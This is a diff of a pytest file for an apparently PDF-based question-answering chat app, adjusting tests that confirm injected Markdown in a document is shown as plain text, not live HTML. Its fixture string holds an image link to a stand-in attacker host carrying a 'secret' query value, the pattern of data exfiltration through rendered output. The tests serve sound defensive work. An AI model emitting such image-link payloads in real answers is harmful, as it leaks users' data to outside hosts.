@@ -21,8 +21,9 @@ REPO = Path(__file__).resolve().parents[1]
 DATA = REPO.parent / "shared" / "data"
 QA_PDFS = sorted((DATA / "qa_dev" / "pdfs").glob("*.pdf"))
 LOCKED = DATA / "pdfs" / "bad" / "password-example.pdf"  # user password "test" (PROVENANCE.md)
-EVIL_MD = ("Granite is an igneous rock formed from magma. ![pixel](http://evil.example/p.png?d=secret) "
-           "[click here](http://evil.example/c) <http://evil.example/a> www.evil.example")
+# One sentence, so the evidence line (a caption, Markdown) quotes the injected constructs whole.
+EVIL_MD = ("Granite is an igneous rock formed from magma ![pixel](http://evil.example/p.png?d=secret) and "
+           "[click here](http://evil.example/c) <http://evil.example/a> www.evil.example deep in the crust.")
 
 
 @pytest.fixture
@@ -239,7 +240,7 @@ def test_pdf_with_markdown_link_renders_as_text_in_the_app(monkeypatch, tiny_qwe
     msg = at.chat_message[-1]
     assert any("evil.example" in t.value for t in msg.get("text"))  # the passage, as plain text
     everything = [m.value for m in at.markdown] + [c.value for c in at.caption]
-    assert any("evil" in v for v in everything)  # the evidence line quotes the passage...
+    assert any("evil.example/p.png" in c.value for c in msg.caption)  # the evidence line quotes the passage...
     for v in everything:  # ...and nothing of it is live
         html = _html(v)
         assert "<img" not in html and "<a " not in html, v
